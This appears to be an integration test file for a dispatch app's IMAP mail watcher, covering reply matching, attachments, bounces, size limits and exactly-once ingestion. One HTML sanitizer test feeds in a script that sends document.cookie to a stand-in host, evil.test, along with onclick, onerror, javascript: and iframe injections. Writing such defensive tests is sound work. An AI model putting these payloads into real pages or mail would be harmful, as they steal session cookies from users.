import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ImapFlow } from 'imapflow';
import nodemailer from 'nodemailer';
import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDispatcher, type Caller, type Dispatch } from '../../src/main/api/dispatcher';
import type { InboxCandidate, InboxMail, InboxRow, MailWatchView } from '../../src/shared/api/mail';
import { MailWatcher } from '../../src/main/mail/watcher';
import { MailSender } from '../../src/main/mail/sender';
import { apiCalls } from '../support/dispatch';
import { demoApp, type DemoApp } from '../support/demo-app';
import { startDovecot, type ImapServer } from '../support/dovecot';

/*
 * Replies read from a real IMAP mailbox on 127.0.0.1 (Debian's Dovecot), into which the tests
 * APPEND mail as a mail server would deliver it: answers by technicians, replies matched by
 * token, headers or number, unmatched mail for the Inbox, and the mail no person wrote or no
 * client should trust. Each mail is taken once, across a server restart and a second watcher.
 */

const MAILBOX = 'replies@example.test';
let d: DemoApp;
let imap: ImapServer;
let dispatch: Dispatch;
let deliverer: ImapFlow;
const caller: Caller = { transport: 'ipc', token: null };
const { ok, fails } = apiCalls(() => dispatch, () => caller);
const raw = () => d.app.ctx.raw;
let picked = 0;
/** An SMTP server that delivers what is for the shared mailbox into Dovecot, as a real one would; it keeps who got what. */
let smtp: SMTPServer;
let smtpPort = 0;
let mta: ImapFlow;
const sentTo: string[] = [];

/** Puts a mail in the shared mailbox as the mail server's delivery would (connecting again after Dovecot's restart). */
async function delivered(mail: Buffer): Promise<void> {
  if (!mta?.usable) {
    mta = new ImapFlow({ host: '127.0.0.1', port: imap.port, secure: false, doSTARTTLS: false, auth: { user: MAILBOX, pass: 'imap-secret' }, logger: false });
    await mta.connect();
  }
  await mta.append('INBOX', mail);
}
const used: string[] = [];

beforeAll(async () => {
  imap = await startDovecot({ [MAILBOX]: 'imap-secret' });
  d = demoApp(1000);
  dispatch = createDispatcher(d.app, { log: (e) => console.error(e) }).call;
  const r = await dispatch(caller, 'auth.login', { login: 'admin', password: 'demo' });
  if (!r.ok) throw new Error(r.error.message);
  smtp = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS', 'AUTH'],
    logger: false,
    onData(stream, session, cb) {
      const chunks: Buffer[] = [];
      stream.on('data', (c: Buffer) => chunks.push(c));
      stream.on('end', () => {
        const rcpts = session.envelope.rcptTo.map((r) => r.address);
        sentTo.push(...rcpts);
        const local = rcpts.some((r) => r === MAILBOX || r.startsWith('replies+'));
        (local ? delivered(Buffer.concat(chunks)) : Promise.resolve()).then(() => cb(), (e: Error) => cb(e));
      });
    },
  });
  await new Promise<void>((resolve) => smtp.listen(0, '127.0.0.1', resolve));
  smtpPort = (smtp.server.address() as AddressInfo).port;
  // An SMTP account, so allocations queue mail with their Message-IDs (sent only where a test kicks the sender).
  await ok('mail.account.save', { host: '127.0.0.1', port: smtpPort, security: 'none', user: '', fromAddress: 'dispatch@example.test', replyTo: MAILBOX });
  deliverer = new ImapFlow({ host: '127.0.0.1', port: imap.port, secure: false, doSTARTTLS: false, auth: { user: MAILBOX, pass: 'imap-secret' }, logger: false });
  await deliverer.connect();
}, 60_000);

afterAll(async () => {
  await deliverer?.logout().catch(() => undefined);
  await mta?.logout().catch(() => undefined);
  await new Promise<void>((resolve) => (smtp ? smtp.close(() => resolve()) : resolve()));
  await d?.dispose();
  await imap?.dispose();
});

const watch = (extra: object = {}) => ({ host: '127.0.0.1', port: imap.port, security: 'none' as const, user: MAILBOX, folder: 'INBOX', ...extra });
const taken = () => raw().prepare('SELECT count(*) FROM mail_inbox').pluck().get() as number;

async function until(what: string, test: () => boolean, ms = 15_000): Promise<void> {
  const end = Date.now() + ms;
  while (!test()) {
    if (Date.now() > end) throw new Error(`waited ${ms} ms for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

/** Delivers a mail to the shared mailbox and waits until the watcher has taken it. */
async function deliver(mail: string | Buffer): Promise<InboxMail> {
  const before = taken();
  await deliverer.append('INBOX', typeof mail === 'string' ? Buffer.from(mail.replace(/\r?\n/g, '\r\n'), 'utf8') : mail);
  await until('the mail to be taken', () => taken() > before);
  const id = raw().prepare('SELECT id FROM mail_inbox ORDER BY uid_validity DESC, uid DESC LIMIT 1').pluck().get() as string;
  return ok<InboxMail>('mail.inbox.get', { id });
}

/** A technician with an address, assigned to an intervention of their own (numbered, not closed). */
async function assigned(email: string): Promise<{ person: string; name: string; iv: string; number: string }> {
  const person = raw().prepare('SELECT id FROM personnel WHERE is_technician = 1 AND active = 1 AND deleted_at IS NULL ORDER BY id LIMIT 1 OFFSET ?').pluck().get(picked % 8) as string;
  raw().prepare('UPDATE personnel SET email = ? WHERE id = ?').run(email, person);
  const iv = raw()
    .prepare(
      `SELECT id, version FROM interventions i WHERE deleted_at IS NULL AND status IN ('taken', 'allocated') AND number IS NOT NULL
         AND id NOT IN (SELECT value FROM json_each(?)) ORDER BY id LIMIT 1`,
    )
    .get(JSON.stringify(used)) as { id: string; version: number };
  used.push(iv.id);
  picked++;
  await ok('interventions.assignTechnicians', { id: iv.id, version: iv.version, personIds: [person] });
  const number = raw().prepare("SELECT se.prefix || ' ' || i.number FROM interventions i JOIN series se ON se.id = i.series_id WHERE i.id = ?").pluck().get(iv.id) as string;
  const name = raw().prepare('SELECT name FROM personnel WHERE id = ?').pluck().get(person) as string;
  return { person, name, iv: iv.id, number };
}

const answerOf = (iv: string, person: string) =>
  raw().prepare('SELECT answer, reason FROM intervention_technicians WHERE intervention_id = ? AND person_id = ? AND deleted_at IS NULL').get(iv, person) as { answer: string; reason: string | null };
const thread = (iv: string) => ok<{ kind: string; body: string; personId: string | null; quoted: string | null; attachment: { id: string; fileName: string; size: number } | null }[]>('interventions.messages.list', { id: iv });
const token = (iv: string) => `replies+${iv.replace(/-/g, '')}@example.test`;
const outboxId = (iv: string) => raw().prepare('SELECT message_id FROM mail_outbox WHERE intervention_id = ? ORDER BY created_at DESC LIMIT 1').pluck().get(iv) as string;

describe('the shared mailbox', () => {
  it('refuses bad settings field by field, keeps the password sealed, and tests the login in the server\'s words', async () => {
    const bad = await fails('mail.watch.save', { ...watch(), host: 'imap example', port: 0, user: '' });
    expect(bad.issues?.map((i) => i.path).sort()).toEqual(['host', 'port', 'user']);
    expect((await fails('mail.watch.test', {})).message).toMatch(/save its settings first/);
    await ok('mail.watch.save', { ...watch(), password: 'wrong', enabled: false });
    expect((await fails('mail.watch.test', {})).message).toMatch(/mailbox could not be opened: .*(Authentication failed|AUTHENTICATIONFAILED|Invalid)/i);
    const saved = await ok<MailWatchView>('mail.watch.save', { ...watch(), password: 'imap-secret' });
    expect(saved).toMatchObject({ hasPassword: true, enabled: true, lastUid: 0 });
    expect(JSON.stringify(saved)).not.toContain('imap-secret');
    expect(raw().prepare("SELECT password_sealed FROM mail_watch WHERE id = 'imap'").pluck().get()).not.toContain('imap-secret');
    expect(await ok('mail.watch.test', {})).toEqual({ ok: true, messages: 0 });
    d.app.mailWatcher.start();
  });
});

describe('a technician\'s reply', () => {
  it('accepts by its first word, matched by the token in the address even with its headers stripped', async () => {
    const t = await assigned('ion.accept@example.test');
    // The allocation's mail says how to answer by mail, since replies are read (in the technician's language).
    const allocation = raw().prepare('SELECT text FROM mail_outbox WHERE intervention_id = ?').pluck().get(t.iv) as string;
    expect(allocation).toMatch(/(starting with|începând cu|começando com|començant amb) .(accept|aceito|accepto)/);
    const mail = await deliver(`From: Ion <Ion.Accept@Example.test>
To: ${token(t.iv)}
Subject: whatever the client left
Message-ID: <accept-1@tech.test>
Content-Type: text/plain; charset=utf-8

Accept, I will be there at nine.

On Fri, 20 Nov 2026 at 10:00, Dispatch <dispatch@example.test> wrote:
> Hello Ion,
> You have been assigned to this intervention.
`);
    expect(mail).toMatchObject({ status: 'matched', matchedBy: 'token', interventionId: t.iv, text: 'Accept, I will be there at nine.' });
    expect(mail.quoted).toMatch(/^On Fri.*wrote:\n> Hello Ion/s);
    expect(mail.note).toBe('Accepted the assignment.');
    // The words after the answer stay with it, as a technician's note typed in the form would.
    expect(answerOf(t.iv, t.person)).toEqual({ answer: 'accepted', reason: 'I will be there at nine.' });
    const incoming = (await thread(t.iv)).filter((m) => m.kind === 'email_in').at(-1)!;
    expect(incoming.personId).toBe(t.person);
    expect(incoming.body).toBe(`Ion <ion.accept@example.test>\nwhatever the client left\n\nAccept, I will be there at nine.`);
    // The quoted earlier text travels with the message, folded under it in the thread.
    expect(incoming.quoted).toBe(mail.quoted);
  });

  it('rejects with the rest as the reason, matched by In-Reply-To; the operator is told in the thread', async () => {
    const t = await assigned('maria.reject@example.test');
    const mail = await deliver(`From: maria.reject@example.test
To: ${MAILBOX}
Subject: Re: New assignment
In-Reply-To: ${outboxId(t.iv)}
Message-ID: <reject-1@tech.test>

Refuz - sunt în concediu până luni.
`);
    expect(mail).toMatchObject({ status: 'matched', matchedBy: 'references', interventionId: t.iv });
    expect(answerOf(t.iv, t.person)).toEqual({ answer: 'rejected', reason: 'sunt în concediu până luni.' });
    expect(raw().prepare('SELECT status FROM interventions WHERE id = ?').pluck().get(t.iv)).toBe('taken');
    const told = (await thread(t.iv)).filter((m) => m.kind === 'system').map((m) => m.body);
    expect(told.some((b) => b.includes(`${t.name} rejected the assignment: sunt în concediu până luni.`)), told.join('\n')).toBe(true);
  });

  it('a rejection without a reason, and an answer from someone else\'s address, are messages, never answers', async () => {
    const t = await assigned('no.reason@example.test');
    const incomingBefore = (await thread(t.iv)).filter((m) => m.kind === 'email_in').length;
    const bare = await deliver(`From: no.reason@example.test\nTo: ${token(t.iv)}\nSubject: Re\nMessage-ID: <bare@tech.test>\n\nNão\n`);
    expect(bare.note).toMatch(/not recorded: a rejection needs a reason/);
    const other = await deliver(`From: someone.else@example.test\nTo: ${token(t.iv)}\nSubject: Re\nMessage-ID: <other@x.test>\n\nAccept\n`);
    expect(other.note).toMatch(/not recorded: the sender is not a technician/);
    expect(answerOf(t.iv, t.person).answer).toBe('pending');
    expect((await thread(t.iv)).filter((m) => m.kind === 'email_in')).toHaveLength(incomingBefore + 2);
  });

  it('brings its attachment into the thread, stored by its content', async () => {
    const t = await assigned('photo@example.test');
    const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(3000, 7)]);
    const mail = await deliver(`From: photo@example.test
To: ${token(t.iv)}
Subject: Re: photo of the meter
Message-ID: <photo@tech.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8

The meter, as found.
--b1
Content-Type: image/png; name="meter.png"
Content-Disposition: attachment; filename="meter.png"
Content-Transfer-Encoding: base64

${png.toString('base64').replace(/(.{76})/g, '$1\n')}
--b1--
`);
    expect(mail.attachments).toBe(1);
    const withFile = (await thread(t.iv)).find((m) => m.attachment)!;
    expect(withFile.attachment).toMatchObject({ fileName: 'meter.png', size: png.length });
    const sha = raw().prepare('SELECT sha256 FROM attachments WHERE id = ?').pluck().get(withFile.attachment!.id) as string;
    expect(sha).toBe(createHash('sha256').update(png).digest('hex'));
    expect(readFileSync(d.app.files.pathOf(sha)).equals(png)).toBe(true);
  });

  it('is matched by the number in its subject when nothing else is left', async () => {
    const t = await assigned('subject.only@example.test');
    const mail = await deliver(`From: client@elsewhere.test\nTo: ${MAILBOX}\nSubject: RE: [${t.number}] New assignment\nMessage-ID: <num@x.test>\n\nWhen do you come?\n`);
    expect(mail).toMatchObject({ status: 'matched', matchedBy: 'number', interventionId: t.iv });
  });

  it('reads ISO-8859-2 with its Romanian letters', async () => {
    const t = await assigned('latin2@example.test');
    const body = 'Am înţeles; şurubul e în maşină.';
    const bytes = Buffer.from(
      body.replace(/[^ -~]/g, (c) => ({ 'î': '\xee', 'ţ': '\xfe', 'ş': '\xba', 'ă': '\xe3' })[c] ?? '?'),
      'latin1',
    );
    const head = Buffer.from(`From: latin2@example.test\r\nTo: ${token(t.iv)}\r\nSubject: =?ISO-8859-2?Q?Re:_ma=BAin=E3?=\r\nMessage-ID: <latin2@tech.test>\r\nContent-Type: text/plain; charset=ISO-8859-2\r\nContent-Transfer-Encoding: 8bit\r\n\r\n`);
    const mail = await deliver(Buffer.concat([head, bytes, Buffer.from('\r\n')]));
    expect(mail.text).toBe(body);
    expect(mail.subject).toBe('Re: maşină');
  });
});

describe('mail no one should trust', () => {
  it('an auto-reply and a bounce are kept aside: never in the thread, never an answer', async () => {
    const t = await assigned('away@example.test');
    const threadBefore = (await thread(t.iv)).length;
    const auto = await deliver(`From: away@example.test\nTo: ${token(t.iv)}\nSubject: Out of office\nAuto-Submitted: auto-replied\nMessage-ID: <auto@tech.test>\n\nAccept my apologies, I am away until Monday.\n`);
    expect(auto).toMatchObject({ status: 'automatic', interventionId: t.iv });
    const bounce = await deliver(`Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@mx.example.test>
To: ${MAILBOX}
Subject: Undelivered Mail Returned to Sender
Message-ID: <bounce@mx.test>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="r"

--r
Content-Type: text/plain

Your message could not be delivered.
--r
Content-Type: message/delivery-status

Final-Recipient: rfc822; gone@example.test
Action: failed
Status: 5.1.1
--r--
`);
    expect(bounce.status).toBe('automatic');
    expect(bounce.note).toMatch(/bounce/);
    expect(answerOf(t.iv, t.person).answer).toBe('pending');
    expect((await thread(t.iv)).length).toBe(threadBefore);
  });

  it('HTML keeps its text and loses its scripts, handlers and remote images', async () => {
    const mail = await deliver(`From: html@client.test
To: ${MAILBOX}
Subject: HTML
Message-ID: <html@client.test>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body><p onclick="steal()">The boiler <b>leaks</b>.</p><script>fetch('https://evil.test/'+document.cookie)</script>
<img src="https://tracker.test/pixel.gif" onerror="alert(1)"><a href="javascript:alert(2)">click</a><iframe src="https://evil.test"></iframe></body></html>
`);
    expect(mail.status).toBe('unmatched');
    expect(mail.html).toContain('The boiler <b>leaks</b>.');
    expect(mail.html).not.toMatch(/script|onerror|onclick|javascript:|iframe|evil\.test/i);
    expect(mail.html).toContain('data-src="https://tracker.test/pixel.gif"');
    expect(mail.html).not.toMatch(/ src="https:/);
    // The text made from the HTML has its words only: no script, no picture's address.
    expect(mail.text).toMatch(/^The boiler leaks\.\s*click$/);
  });

  it('pictures from the internet load only when asked: through main, pictures only, bounded, no SVG', async () => {
    const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
    const asked: string[] = [];
    const pictures = createServer((req, res) => {
      asked.push(req.url ?? '');
      if (req.url === '/logo.png') res.writeHead(200, { 'content-type': 'image/png' }).end(png);
      else if (req.url === '/page') res.writeHead(200, { 'content-type': 'text/html' }).end('<script>alert(1)</script>');
      else if (req.url === '/drawing.svg') res.writeHead(200, { 'content-type': 'image/svg+xml' }).end('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
      else if (req.url === '/huge.png') res.writeHead(200, { 'content-type': 'image/png' }).end(Buffer.alloc(3 * 1024 * 1024));
      else res.writeHead(404).end();
    });
    await new Promise<void>((r) => pictures.listen(0, '127.0.0.1', r));
    const base = `http://127.0.0.1:${(pictures.address() as AddressInfo).port}`;
    try {
      const mail = await deliver(`From: newsletter@client.test
To: ${MAILBOX}
Subject: Our new boiler
Message-ID: <pictures@client.test>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<p>Look:</p><img src="${base}/logo.png" alt="logo"><img src="${base}/logo.png"><img src="${base}/page"><img src="${base}/drawing.svg"><img src="${base}/huge.png"><img src="${base}/gone.png">
`);
      // Read and stored without a single request: a tracking pixel learns nothing from the watcher.
      expect(asked).toEqual([]);
      expect((await ok<InboxMail>('mail.inbox.get', { id: mail.id })).html).not.toMatch(/ src=/);
      const shown = await ok<{ html: string; loaded: number; failed: number }>('mail.inbox.pictures', { id: mail.id });
      expect(shown).toMatchObject({ loaded: 1, failed: 4 });
      expect(asked.sort()).toEqual(['/drawing.svg', '/gone.png', '/huge.png', '/logo.png', '/page']);
      expect(shown.html).toContain(`<img alt="logo" src="data:image/png;base64,${png.toString('base64')}" />`);
      expect(shown.html.match(/src="data:image\/png/g)).toHaveLength(2);
      // What did not load stays held back, and nothing else came with the pictures.
      expect(shown.html).toContain(`data-src="${base}/page"`);
      expect(shown.html).toContain(`data-src="${base}/drawing.svg"`);
      expect(shown.html).not.toMatch(/script/);
      // The stored mail is unchanged: asking again asks again.
      expect((await ok<InboxMail>('mail.inbox.get', { id: mail.id })).html).not.toMatch(/ src=/);
      const plain = await deliver(`From: words@client.test\nTo: ${MAILBOX}\nSubject: Only words\nMessage-ID: <words@client.test>\n\nNo pictures here.\n`);
      expect((await fails('mail.inbox.pictures', { id: plain.id })).message).toMatch(/no HTML/);
      expect((await fails('mail.inbox.pictures', { id: '00000000-0000-7000-8000-000000000000' })).code).toBe('not_found');
    } finally {
      await new Promise((r) => pictures.close(r));
    }
  });

  it('malformed MIME and nonsense are taken with what can be read, and the watcher goes on', async () => {
    const broken = await deliver(`From: broken@client.test
To: ${MAILBOX}
Subject: broken
Message-ID: <broken@client.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="never-closed"

--never-closed
Content-Type: text/plain; charset=x-no-such-charset
Content-Transfer-Encoding: base64

SGVsbG8gd29ybGQ=%%%not base64
`);
    expect(broken.status).toBe('unmatched');
    const nonsense = await deliver(Buffer.from([0, 1, 2, 255, 254, 10, 13, 10, 0x3a, 0x3a]));
    expect(['unmatched', 'refused']).toContain(nonsense.status);
    // And the next mail is taken as usual.
    const after = await deliver(`From: fine@client.test\nTo: ${MAILBOX}\nSubject: fine\nMessage-ID: <fine@client.test>\n\nfine\n`);
    expect(after.text).toBe('fine');
  });

  it('a mail over the size limit is refused from its headers with a note in its thread; an attachment over it is left out', async () => {
    const t = await assigned('big@example.test');
    await ok('settings.update', { attachmentMaxBytes: 64 * 1024 });
    try {
      const big = await deliver(`From: big@example.test\nTo: ${token(t.iv)}\nSubject: Re: all the photos\nMessage-ID: <big@tech.test>\n\n${'x'.repeat(76).concat('\n').repeat(2000)}`);
      expect(big).toMatchObject({ status: 'refused', interventionId: t.iv });
      expect(big.text).toBe('');
      const oneLarge = Buffer.alloc(80 * 1024, 1);
      const partly = await deliver(`From: big@example.test
To: ${token(t.iv)}
Subject: Re: one photo
Message-ID: <partly@tech.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b2"

--b2
Content-Type: text/plain

Here it is.
--b2
Content-Type: application/octet-stream; name="large.bin"
Content-Disposition: attachment; filename="large.bin"
Content-Transfer-Encoding: base64

${oneLarge.toString('base64').replace(/(.{76})/g, '$1\n')}
--b2--
`);
      expect(partly).toMatchObject({ status: 'matched', attachments: 0 });
      expect(partly.note).toMatch(/"large\.bin" \(80\.0 KiB\) was refused: the limit is 64\.0 KiB/);
      const notes = (await thread(t.iv)).map((m) => m.body);
      expect(notes.some((b) => /was refused: mail over 128\.0 KiB is not taken/.test(b))).toBe(true);
    } finally {
      await ok('settings.update', { attachmentMaxBytes: 25 * 1024 * 1024 });
    }
  });
});

describe('the Inbox', () => {
  it('holds unmatched mail until an operator puts it in a thread (files too) or sets it aside', async () => {
    const client = raw().prepare("SELECT client_id FROM interventions WHERE deleted_at IS NULL AND status = 'taken' ORDER BY id DESC LIMIT 1").pluck().get() as string;
    raw().prepare('UPDATE clients SET email = ? WHERE id = ?').run('New@Client.test', client);
    const lost = await deliver(`From: New Client <new@client.test>\nTo: ${MAILBOX}\nSubject: My heating is off\nMessage-ID: <lost@client.test>\n\nPlease call me.\n`);
    // Its sender is known by the client's address (any case): a new intervention from it starts with that client.
    expect(lost.sender).toEqual({ clientId: client, contactPersonId: null });
    const waiting = await ok<InboxRow[]>('mail.inbox.list', {});
    expect(waiting.map((m) => m.id)).toContain(lost.id);
    const iv = raw().prepare("SELECT id FROM interventions WHERE deleted_at IS NULL AND status = 'taken' ORDER BY id DESC LIMIT 1").pluck().get() as string;
    // Suggested: the open interventions of the client with the sender's address (any case); or those with a number typed.
    const open = raw().prepare("SELECT id FROM interventions WHERE client_id = ? AND deleted_at IS NULL AND status NOT IN ('finalized', 'cancelled') ORDER BY id").pluck().all(client) as string[];
    const suggested = await ok<InboxCandidate[]>('mail.inbox.candidates', { id: lost.id });
    expect(suggested.map((c) => c.interventionId).sort()).toEqual(open);
    expect(suggested.every((c) => c.why === 'sender')).toBe(true);
    const numbered = raw().prepare("SELECT se.prefix AS prefix, i.number AS number, i.id FROM interventions i JOIN series se ON se.id = i.series_id WHERE i.number IS NOT NULL AND i.deleted_at IS NULL ORDER BY i.id LIMIT 1").get() as { prefix: string; number: number; id: string };
    const byNumber = await ok<InboxCandidate[]>('mail.inbox.candidates', { id: lost.id, number: `${numbered.prefix.toLowerCase()} ${numbered.number}` });
    expect(byNumber.map((c) => c.interventionId)).toEqual([numbered.id]);
    expect((await fails('mail.inbox.candidates', { id: lost.id, number: 'twelve' })).issues?.[0]?.path).toBe('number');
    const placed = await ok<InboxRow>('mail.inbox.attach', { id: lost.id, interventionId: iv });
    expect(placed).toMatchObject({ status: 'attached', matchedBy: 'operator', interventionId: iv });
    expect((await thread(iv)).some((m) => m.kind === 'email_in' && m.body.startsWith('New Client <new@client.test>\nMy heating is off'))).toBe(true);
    expect((await fails('mail.inbox.attach', { id: lost.id, interventionId: iv })).message).toMatch(/attached already/);
    const spam = await deliver(`From: spam@spam.test\nTo: ${MAILBOX}\nSubject: Win\nMessage-ID: <spam@spam.test>\n\nWin!\n`);
    expect((await ok<InboxRow>('mail.inbox.dismiss', { id: spam.id })).status).toBe('dismissed');
    expect((await ok<InboxRow[]>('mail.inbox.list', {})).map((m) => m.id)).not.toContain(spam.id);
    expect((await ok<InboxRow[]>('mail.inbox.list', { status: 'dismissed' })).map((m) => m.id)).toContain(spam.id);
    expect((await fails('mail.inbox.get', { id: 'no-such' })).code).toBe('not_found');
  });
});

describe('exactly once', () => {
  it('a backlog read across a server restart and a second watcher on the same database: every mail once, none twice', async () => {
    const t = await assigned('backlog@example.test');
    const before = taken();
    const messagesBefore = (await thread(t.iv)).length;
    await d.app.mailWatcher.stop();
    for (let i = 0; i < 40; i++) {
      await deliverer.append('INBOX', Buffer.from(`From: backlog@example.test\r\nTo: ${token(t.iv)}\r\nSubject: note ${i}\r\nMessage-ID: <backlog-${i}@tech.test>\r\n\r\nnote ${i}\r\n`));
    }
    await deliverer.logout();
    // Two watchers on one database (as two processes would be): the lease lets one read.
    const second = new MailWatcher(d.app.ctx, d.app.secrets, d.app.files, () => d.app.settings.get(), () => undefined);
    d.app.mailWatcher.start();
    second.start();
    await until('part of the backlog', () => taken() >= before + 10);
    // The server goes down mid-ingest and comes back: the watcher reconnects by itself.
    await imap.stop();
    await imap.start();
    await until('the whole backlog', () => taken() >= before + 40, 30_000);
    await second.stop();
    expect(taken()).toBe(before + 40);
    const notes = (await thread(t.iv)).filter((m) => m.kind === 'email_in').map((m) => m.body.split('\n')[1]);
    expect(notes.filter((s) => s?.startsWith('note ')).sort()).toEqual(Array.from({ length: 40 }, (_, i) => `note ${i}`).sort());
    expect((await thread(t.iv)).length).toBe(messagesBefore + 40);
    // The watcher says it is reading again.
    const state = await ok<MailWatchView>('mail.watch.get', {});
    expect(state.lastError).toBeNull();
    deliverer = new ImapFlow({ host: '127.0.0.1', port: imap.port, secure: false, doSTARTTLS: false, auth: { user: MAILBOX, pass: 'imap-secret' }, logger: false });
    await deliverer.connect();
  }, 90_000);
});

describe('a crash between sending and recording', () => {
  it('a mail whose blind copy is in the shared mailbox counts as sent and is not sent twice; one without goes again', async () => {
    const copyOf = (messageId: string) => raw().prepare('SELECT status, note FROM mail_inbox WHERE message_id = ?').get(messageId) as { status: string; note: string } | undefined;
    const outboxRow = (iv: string) =>
      raw().prepare('SELECT id, message_id AS messageId, to_address AS to_, subject, text, status, last_error AS lastError, event FROM mail_outbox WHERE intervention_id = ? ORDER BY created_at DESC LIMIT 1').get(iv) as {
        id: string; messageId: string; to_: string; subject: string; text: string; status: string;
      };
    // Sent as usual: the technician gets it, the shared mailbox its copy, which the watcher keeps aside.
    const first = await assigned('copy.sent@example.test');
    await d.app.mail.kick();
    const firstRow = outboxRow(first.iv);
    expect(firstRow.status, JSON.stringify(firstRow)).toBe('sent');
    await until('the blind copy to be taken', () => copyOf(firstRow.messageId) !== undefined);
    expect(copyOf(firstRow.messageId)?.status).toBe('automatic');
    expect(copyOf(firstRow.messageId)?.note).toMatch(/copy of a mail this app sent/);

    // Sent, then the app died before it recorded so: the mail is still "sending".
    const second = await assigned('crash.sent@example.test');
    const row = outboxRow(second.iv);
    const transport = nodemailer.createTransport({ host: '127.0.0.1', port: smtpPort, secure: false, ignoreTLS: true });
    await transport.sendMail({ from: 'dispatch@example.test', to: row.to_, bcc: MAILBOX, subject: row.subject, text: row.text, messageId: row.messageId });
    transport.close();
    raw().prepare("UPDATE mail_outbox SET status = 'sending', attempts = 1 WHERE id = ?").run(row.id);
    await until('the crashed mail\'s copy to be in the mailbox', () => copyOf(row.messageId) !== undefined);
    // Never sent at all before the crash: no copy, so it goes.
    const third = await assigned('crash.lost@example.test');
    const lost = outboxRow(third.iv);
    raw().prepare("UPDATE mail_outbox SET status = 'sending', attempts = 1 WHERE id = ?").run(lost.id);

    const restarted = new MailSender(d.app.ctx, d.app.secrets, () => undefined);
    restarted.start();
    await restarted.kick();
    await restarted.stop();
    expect(outboxRow(second.iv).status).toBe('sent');
    expect(sentTo.filter((a) => a === 'crash.sent@example.test')).toHaveLength(1);
    expect(outboxRow(third.iv).status).toBe('sent');
    expect(sentTo.filter((a) => a === 'crash.lost@example.test')).toHaveLength(1);
    // Either way the thread says once that it went out.
    for (const t of [second, third]) expect((await thread(t.iv)).filter((m) => m.kind === 'email_out')).toHaveLength(1);
  });
});
